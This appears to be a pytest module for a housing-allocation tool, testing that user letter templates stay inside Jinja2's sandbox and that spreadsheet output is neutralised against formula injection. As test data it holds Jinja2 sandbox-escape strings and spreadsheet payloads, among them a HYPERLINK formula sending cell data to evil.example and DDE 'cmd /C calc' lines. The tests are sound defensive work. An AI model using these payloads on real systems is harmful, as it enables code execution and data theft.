"""Nothing a user supplies runs code (issue 17).

An organisation's letter templates run in Jinja2's sandbox and are checked
before any solve; names that a spreadsheet would run as formulas are
neutralised in every CSV file and workbook cell.
"""

from __future__ import annotations

import csv
import time
from functools import cache
from pathlib import Path

import jinja2.sandbox
import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from allocator import cli
from allocator.cli.common import ExitCode
from allocator.excel.read import read_workbook
from allocator.excel.template import write_template
from allocator.io.cells import FORMULA_STARTS, from_spreadsheet_text, spreadsheet_text
from allocator.io.errors import InputError
from allocator.io.outputs import write_outputs
from allocator.report.letters import TEMPLATE_DIR, check_templates, environment
from models.plan import Result
from models.scenario import Scenario
from tests.tiny import changed, scenario, solve_small, tiny_data

ESCAPES = {
    "mro": "{{ ''.__class__.__mro__ }}",
    "globals": "{{ cycler.__init__.__globals__.os }}",
    "item": "{{ h['__class__'] }}",
    "attr filter": "{{ h|attr('__class__') }}",
}


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli.main, list(args), catch_exceptions=False)
    return result.exit_code, result.stderr


# -- templates -------------------------------------------------------------------------


@pytest.mark.parametrize("escape", ESCAPES, ids=list(ESCAPES))
def test_a_template_reaching_python_internals_is_refused(tmp_path: Path, escape: str) -> None:
    (tmp_path / "notice.md").write_text(f"Kære beboer\n{ESCAPES[escape]}\n", encoding="utf-8")
    with pytest.raises(InputError) as error:
        check_templates(tmp_path)
    for message in error.value.messages:
        assert message.startswith(f"{tmp_path / 'notice.md'}: line 2: '__")
        assert "reaches into Python's internals" in message


def test_the_sandbox_stops_what_no_static_check_sees() -> None:
    env = environment(None)
    sneaky = env.from_string("{% set n = '__cla' ~ 'ss__' %}{{ (x|attr(n)).__name__ }}")
    with pytest.raises(jinja2.sandbox.SecurityError):
        sneaky.render(x="")
    with pytest.raises(jinja2.sandbox.SecurityError):  # immutable: the data stays as given
        env.from_string("{{ rows.append(1) }}").render(rows=[])


def test_broken_and_unknown_names_are_refused_with_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "notice.html").write_text("<p>{% if %}</p>\n", encoding="utf-8")
    (tmp_path / "return.md").write_text("{{ h.household }} {{ houshold }}\n", encoding="utf-8")
    with pytest.raises(InputError) as error:
        check_templates(tmp_path)
    assert error.value.messages[0].startswith(f"{tmp_path / 'notice.html'}: line 1: ")
    assert error.value.messages[1].startswith(f"{tmp_path / 'return.md'}: unknown name 'houshold'")


def test_genhus_own_templates_pass(tmp_path: Path) -> None:
    check_templates(TEMPLATE_DIR)


def test_a_bad_template_stops_solve_before_the_search_and_writes_nothing(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "notice.html").write_text(ESCAPES["globals"], encoding="utf-8")
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(tiny_data()), encoding="utf-8")
    out = tmp_path / "out"
    started = time.perf_counter()
    code, text = run("solve", str(path), "--templates", str(templates), "--out", str(out))
    assert code == ExitCode.BAD_INPUT
    assert "reaches into Python's internals" in text and "Traceback" not in text
    assert "solving" not in text and "loaded" not in text
    assert not out.exists()
    assert time.perf_counter() - started < 10


# -- spreadsheets ----------------------------------------------------------------------

HOSTILE = {
    "H1": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "H2": "+cmd|' /C calc'!A0",
    "H3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@cache
def hostile() -> tuple[Scenario, Result]:
    """``tiny`` with formula-like names, and household H1 renamed ``-H1``; solved."""
    data = tiny_data()
    for hid, name in HOSTILE.items():
        data = changed(data, "households", hid, name=name)
    data["households"] = [{**h, "id": "-H1"} if h["id"] == "H1" else h for h in data["households"]]
    scn = scenario(data)
    return scn, solve_small(scn)


def test_spreadsheet_text_neutralises_every_formula_start() -> None:
    for start in FORMULA_STARTS:
        text = f"{start}1+1"
        assert spreadsheet_text(text) == f"'{text}"
        assert from_spreadsheet_text(spreadsheet_text(text)) == text
    assert spreadsheet_text("Blok A") == "Blok A"
    assert from_spreadsheet_text("'tekst") == "'tekst"  # not ours: kept


def test_csv_and_workbook_cells_never_start_like_a_formula(tmp_path: Path) -> None:
    scn, result = hostile()
    write_outputs(result, scn, tmp_path)
    cells: list[str] = []
    for name in ("households.csv", "activities.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    book = openpyxl.load_workbook(tmp_path / "result.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for name in HOSTILE.values():
        assert f"'{name}" in cells
    assert "'-H1" in cells  # an id is user text too


def test_the_input_workbook_neutralises_and_reads_back_the_same(tmp_path: Path) -> None:
    scn, _ = hostile()
    book = tmp_path / "sag.xlsx"
    write_template(book, scn)
    sheet_cells = [
        cell.value
        for ws in openpyxl.load_workbook(book).worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert f"'{HOSTILE['H2']}" in sheet_cells
    assert read_workbook(book) == scn
